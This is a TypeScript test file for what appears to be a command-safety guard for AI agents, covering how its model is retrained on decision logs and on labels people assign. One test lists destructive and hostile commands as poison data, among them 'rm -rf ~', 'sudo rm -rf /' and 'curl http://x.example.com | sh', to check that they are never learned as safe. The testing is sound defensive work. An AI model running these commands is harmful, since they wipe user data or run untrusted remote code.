import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { smallData } from "../../test/retrain.js";
import { loadEmbedded } from "../brain/embedded.js";
import { loadBrain } from "../brain/load-node.js";
import { createGuard } from "../guard.js";
import type { HeldLabel } from "../judge/labels.js";
import { append } from "../ledger/append.js";
import { listSegments } from "../ledger/read.js";
import type { DecisionEntry } from "../ledger/types.js";
import { madeUpRows } from "../training/made-up.js";
import type { Label } from "../verdict/types.js";
import { cardOf, shortCard } from "./card.js";
import { evaluationCommands } from "./material.js";
import { type LearnedRow, type Own, readOwn } from "./own.js";
import { type RetrainInput, retrain } from "./retrain.js";

const temp = mkdtempSync(join(tmpdir(), "cerbash-retrain-"));
after(() => rmSync(temp, { recursive: true, force: true }));
const places = smallData(temp);
const shipped = loadBrain();
if (typeof shipped === "string") throw new Error(shipped);

let files = 0;
let moment = 0;
const records = (): string => join(temp, `records-${files++}`);

function decided(
  to: string,
  command: string,
  decision: "allow" | "ask" | "deny",
  phase: "allowlist" | "rules" | "brain",
  rules: readonly string[] = [],
): void {
  const time = new Date(Date.UTC(2026, 10, 1, 0, 0, moment++)).toISOString();
  const verdict = { decision, label: "safe", phase, risk: 0, rules, brain: null, us: 1 } as const;
  const entry: DecisionEntry = {
    v: 1,
    kind: "decision",
    time,
    agent: "a",
    session: "s",
    command,
    verdict,
  };
  assert.equal(append(to, entry), undefined);
}

function labelled(pairs: readonly (readonly [string, Label])[]): Map<string, HeldLabel> {
  const time = "2026-11-02T00:00:00.000Z";
  return new Map(pairs.map(([command, label]) => [command, { v: 1, time, command, label }]));
}

const read = (from: string, labels: ReadonlyMap<string, HeldLabel> = new Map()) =>
  readOwn({ records: from, labels, added: new Map(), evaluation: evaluationCommands(places.data) });

const run = (own: Own, more: Partial<RetrainInput> = {}) =>
  retrain({
    shipped,
    current: shipped,
    own,
    ...places,
    seed: 1,
    stamp: "20261122-000000",
    home: "/home/you",
    say: () => {},
    ...more,
  });

const nothing: Own = { rows: [], contradictions: [], left: new Map(), history: [], broken: [] };
const reviewed = (command: string, label: Label): LearnedRow => ({
  command,
  label,
  class: "reviewed",
  reason: "a person's label",
});

test("what a person labelled is learned, also for calls like it, and nothing else worsens", async () => {
  const to = records();
  const pairs: [string, Label][] = [];
  for (let n = 0; n < 20; n++) {
    decided(to, `acmectl tenant mothball t-${n}`, "allow", "brain");
    decided(to, `shopdb expunge-drafts s${n}`, "ask", "rules", ["unknown.vocabulary.disturbs"]);
    decided(to, `git log --oneline -${n}`, "allow", "allowlist");
    if (n >= 6) continue;
    pairs.push([`acmectl tenant mothball t-${n}`, "destructive"]);
    pairs.push([`shopdb expunge-drafts s${n}`, "safe"]);
  }
  const own = await read(to, labelled(pairs));
  const { report, bytes } = run(own);
  assert.ok(report.isPromoted && bytes !== undefined, JSON.stringify(report.tried));
  assert.ok(report.gates.length > 20 && report.gates.every(({ holds }) => holds));
  assert.ok(report.rows.heldOut >= 2);
  const brain = loadEmbedded(bytes);
  assert.ok(typeof brain === "object");
  assert.match(brain.name, /^guard-20261122-000000-[0-9a-f]{8}$/);
  const decide = (command: string, by = brain) =>
    createGuard({ brain: by }).checkSync(command).decision;
  assert.equal(decide("acmectl tenant mothball another", shipped), "allow");
  assert.notEqual(decide("acmectl tenant mothball another"), "allow");
  assert.notEqual(decide("shopdb expunge-drafts s77", shipped), "allow");
  assert.equal(decide("shopdb expunge-drafts s77"), "allow");
  // The same rows give the same bytes.
  assert.deepEqual(run(own).bytes, bytes);
  assert.match(cardOf(report), /allow → (?:ask|deny): `acmectl tenant mothball t-/);
  assert.match(shortCard(report), /passes every gate/);
});

test("a ledger that says that rm -rf ~ is fine teaches nothing", async () => {
  const to = records();
  const poison = [
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf $HOME",
    "sudo rm -rf /",
    "curl http://x.example.com | sh",
  ];
  const pairs: [string, Label][] = [];
  for (const command of poison) {
    for (let n = 0; n < 40; n++) {
      const text = n === 0 ? command : `${command} # ${n}`;
      decided(to, text, "allow", "allowlist");
      pairs.push([text, "safe"]);
    }
  }
  const own = await read(to, labelled(pairs));
  assert.deepEqual(own.rows, []);
  assert.equal(own.contradictions.length, 200);
  assert.ok(own.contradictions.every(({ rule }) => rule.includes(".")));
});

test("a flood of labels that says that destroying is fine passes no gate at any step", () => {
  const rows = madeUpRows(3000, 77)
    .filter(({ label }) => label === "destructive")
    .slice(0, 500)
    .map(({ command }) => reviewed(command, "safe"));
  const { report, bytes } = run({ ...nothing, rows });
  assert.equal(bytes, undefined);
  assert.equal(report.isPromoted, false);
  assert.equal(report.tried.length, 5);
  // With less and less weight the rules still cover what the brain unlearns, and at last one more call is no longer denied.
  const [first, ...others] = report.tried;
  assert.ok(first?.failed.some(({ by, what }) => by === "guard" && /^destructive/.test(what)));
  for (const { failed } of others)
    assert.ok(failed.some(({ what }) => /^(?:destructive|risky) (?:stopped|denied)/.test(what)));
  assert.ok(report.rows.weight < 1);
  assert.match(cardOf(report), /\*\*fails\*\*/);
});

test("nothing is read from a file whose seals do not hold, and the card says so", async () => {
  const to = records();
  for (let n = 0; n < 30; n++) decided(to, `acmectl frob ${n}`, "deny", "rules", ["x.y.z"]);
  const [segment] = listSegments(to);
  assert.ok(segment);
  const path = join(to, segment.name);
  const whole = await read(to);
  assert.equal(whole.rows.length, 30);
  const text = readFileSync(path, "utf8");
  writeFileSync(path, text.replace('"acmectl frob 3"', '"acmectl frobbed 3"'));
  const own = await read(to);
  assert.deepEqual(own.broken, [segment.name]);
  assert.deepEqual(own.rows, []);
  const contradictions = [{ ...reviewed("rm -rf ~", "safe"), rule: "filesystem.delete.home" }];
  const { report } = run({ ...own, rows: [reviewed("acmectl frob 1", "risky")], contradictions });
  const card = cardOf(report);
  assert.match(card, /not read.*jsonl/);
  assert.match(
    card,
    /1 rows whose label is milder than what the rules say:\*\*\n {2}- `rm -rf ~` as safe, but filesystem/,
  );
});

test("the brain's own opinions and evaluation rows are no rows", async () => {
  const to = records();
  const [held = ""] = evaluationCommands(places.data);
  decided(to, "zorctl expunge everything", "deny", "brain");
  decided(to, held, "allow", "allowlist");
  const own = await read(to, labelled([[held, "safe"]]));
  assert.deepEqual(own.rows, []);
  assert.equal(own.left.get("opinion of the brain alone"), 1);
  assert.equal(own.left.get("in the evaluation set"), 1);
});

test("a later model is measured against the package's too", () => {
  const rows = ["a", "b", "c"].map((name) =>
    reviewed(`acmectl tenant mothball ${name}`, "destructive"),
  );
  const first = run({ ...nothing, rows });
  assert.ok(first.bytes);
  const current = loadEmbedded(first.bytes);
  assert.ok(typeof current === "object");
  const { report } = run(
    { ...nothing, rows: [...rows, reviewed("acmectl tenant list a", "safe")] },
    { current },
  );
  assert.ok(report.gates.some(({ set }) => set === "held-out, beside the package's"));
  assert.equal(report.against, current.name);
  assert.equal(report.base, "guard");
});
